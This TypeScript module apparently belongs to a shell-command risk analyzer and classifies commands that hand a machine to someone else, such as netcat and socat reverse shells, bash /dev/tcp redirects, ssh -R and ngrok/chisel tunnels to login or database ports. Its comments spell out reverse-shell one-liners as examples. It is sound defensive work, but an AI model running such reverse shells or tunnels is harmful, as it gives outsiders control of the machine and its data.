import { SSH_VALUE } from '../../shell/cli-options/copies.js';
import type { SimpleCommand } from '../../shell/extract.js';
import { parseOptions } from '../../shell/options.js';
import { commandName, SHELLS, withoutMonitorPort } from '../../shell/wrappers.js';
import type { Word } from '../../shell/words.js';
import type { Effect } from '../../core/types.js';
import { NC_VALUE, socketPath } from './sockets.js';

// Handing this machine to someone else: a shell served over a connection (`nc -e /bin/sh HOST PORT`,
// `socat exec:'bash -li',pty tcp:HOST:PORT`, `bash -i >& /dev/tcp/HOST/PORT 0>&1`), or a tunnel that
// opens a local login, remote-desktop, container-API or database port to another machine (`ssh -R
// 8080:localhost:22 HOST`, `ngrok tcp 22`, `cloudflared tunnel --url ssh://localhost:22`). Each was allowed:
// nothing was sent that the secret flows knew as a secret. A tunnel to a web server in development
// (`ngrok http 3000`) is everyday work and stays so.

/** Ports that let whoever reaches them log in, take control, or read the data. */
export const CONTROL_PORTS = new Set([
  '22',
  '23',
  '2375',
  '2376',
  '3389',
  '5900',
  '5901',
  '5985',
  '5986',
  '6443',
  '10250',
  '3306',
  '5432',
  '6379',
  '9200',
  '11211',
  '27017',
  '2379',
]);
const CONTROL_SCHEMES = /^(ssh|rdp|tcp|unix|vnc):\/\//i;

function handedOver(tool: string, to: string, how: string, host?: string, critical = false): Effect {
  return {
    operation: 'modify',
    tool,
    target: to,
    reversible: false,
    risk: critical ? 'critical' : 'high',
    category: 'remote-access',
    reason: `${how} (${tool})`,
    ...(host ? { hints: [{ source: `${tool} host`, value: host }] } : {}),
  };
}

/** netcat's `-e PROGRAM` / `-c COMMAND` runs a program with the connection as its input and output. */
function netcatShell(tool: string, args: readonly Word[]): Effect[] {
  const { options, positionals } = parseOptions(args, { withValue: NC_VALUE });
  const program = ['-e', '-c', '--exec', '--sh-exec', '--lua-exec'].flatMap((o) => options.get(o) ?? [])[0];
  if (program === undefined) return [];
  const listens = options.has('-l') || options.has('--listen');
  const [host, port] = positionals.map((w) => w.value);
  const to =
    listens || !host
      ? `whoever connects to port ${positionals.at(-1)?.value ?? options.get('-p')?.[0] ?? '?'}`
      : `${host}:${port ?? '?'}`;
  const how = `gives ${to} a running ${program}: control of this machine`;
  return [handedOver(tool, to, how, listens ? undefined : host, true)];
}

/** socat with an `exec:`/`system:` address on one side and the network on the other. */
function socatShell(args: readonly Word[]): Effect[] {
  const addresses = args.filter((w) => !w.value.startsWith('-')).map((w) => w.value);
  const program = addresses.find((a) => /^(exec|system):/i.test(a));
  const network = addresses.find((a) => /^(tcp|udp|sctp|openssl|ssl)[46]?(-connect|-listen)?:/i.test(a));
  if (!program || !network) return [];
  const host = /-listen:/i.test(network) ? undefined : network.split(':')[1];
  const to = host ? network.replace(/^[^:]+:/, '') : `whoever connects to ${network}`;
  const what = program.replace(/^(exec|system):/i, '').split(',')[0];
  return [handedOver('socat', to, `gives ${to} a running ${what}: control of this machine`, host, true)];
}

/** A shell whose input or output is a `/dev/tcp` connection: whoever is at the other end drives it. */
function shellOverSocket(name: string, cmd: SimpleCommand): Effect[] {
  if (!SHELLS.has(name)) return [];
  const socket = cmd.redirects
    .map((r) => (r.target.dynamic ? undefined : socketPath(r.target.value)))
    .find(Boolean);
  if (!socket) return [];
  return [
    handedOver(
      name,
      socket.destination,
      `connects ${name} to ${socket.destination}: whoever is there controls this machine`,
      socket.host,
      true,
    ),
  ];
}

/** `ssh -R [bind:]PORT:HOST:HOSTPORT`: the remote machine reaches HOST:HOSTPORT of this side. */
function sshReverse(args: readonly Word[]): Effect[] {
  const { options, positionals } = parseOptions(args, { withValue: SSH_VALUE, stopAtFirstPositional: true });
  const target = positionals[0]?.value;
  return (options.get('-R') ?? []).flatMap((spec) => {
    const port = spec.split(':').at(-1) ?? '';
    if (!CONTROL_PORTS.has(port)) return [];
    const host = target?.replace(/^[^@]*@/, '');
    const to = host ?? 'the remote machine';
    return [handedOver('ssh', to, `opens port ${port} of this machine to ${to} (ssh -R ${spec})`, host)];
  });
}

/** ngrok, cloudflared and the like: a public address in front of a local port. */
function publicTunnel(name: string, args: readonly Word[]): Effect[] {
  const words = args.filter((w) => !w.dynamic).map((w) => w.value);
  let exposed: string | undefined;
  if (name === 'ngrok' && ['tcp', 'tls'].includes(words[0] ?? '')) exposed = words[1];
  else if (name === 'cloudflared' || name === 'lt' || name === 'bore') {
    exposed =
      words.find((w) => CONTROL_SCHEMES.test(w)) ??
      words[words.findIndex((w) => /^--?(port|p)$/.test(w)) + 1];
    if (name === 'bore' && words[0] === 'local') exposed = words[1];
  }
  if (!exposed) return [];
  const port = /(\d+)\/?$/.exec(exposed)?.[1] ?? '';
  if (!CONTROL_SCHEMES.test(exposed) && !CONTROL_PORTS.has(port) && name !== 'ngrok') return [];
  return [handedOver(name, 'the internet', `opens ${exposed} of this machine to anyone on the internet`)];
}

/**
 * `chisel client SERVER R:[bind:]PORT:HOST:HOSTPORT`: the server's side reaches HOST:HOSTPORT of this one;
 * `R:socks` gives it a proxy into this machine's whole network.
 */
function chiselReverse(args: readonly Word[]): Effect[] {
  const words = args.filter((w) => !w.dynamic).map((w) => w.value);
  if (words[0] !== 'client') return [];
  const server = words.slice(1).find((w) => !w.startsWith('-') && !/^R:/i.test(w));
  const host = server?.replace(/^https?:\/\//, '').split(':')[0];
  return words
    .filter((w) => /^R:/i.test(w))
    .flatMap((remote) => {
      const socks = /socks$/i.test(remote);
      const port = remote.split(':').at(-1)?.split('/')[0] ?? '';
      if (!socks && !CONTROL_PORTS.has(port)) return [];
      const what = socks ? "this machine's network (a SOCKS proxy)" : `port ${port} of this side`;
      return [
        handedOver(
          'chisel',
          host ?? 'the chisel server',
          `opens ${what} to ${host ?? 'the chisel server'} (${remote})`,
          host,
        ),
      ];
    });
}

/** What of this machine the command hands to another (wrappers not yet peeled: it runs here). */
export function remoteControlEffects(cmd: SimpleCommand): Effect[] {
  const program = cmd.argv[0];
  if (!program || program.dynamic) return [];
  const name = commandName(program);
  const args = cmd.argv.slice(1);
  switch (name) {
    case 'nc':
    case 'ncat':
    case 'netcat':
      return netcatShell(name, args);
    case 'socat':
      return socatShell(args);
    case 'ssh':
      return sshReverse(args);
    case 'autossh':
      return sshReverse(withoutMonitorPort(args));
    case 'chisel':
      return chiselReverse(args);
    case 'ngrok':
    case 'cloudflared':
    case 'lt':
    case 'bore':
      return publicTunnel(name, args);
    default:
      return shellOverSocket(name, cmd);
  }
}
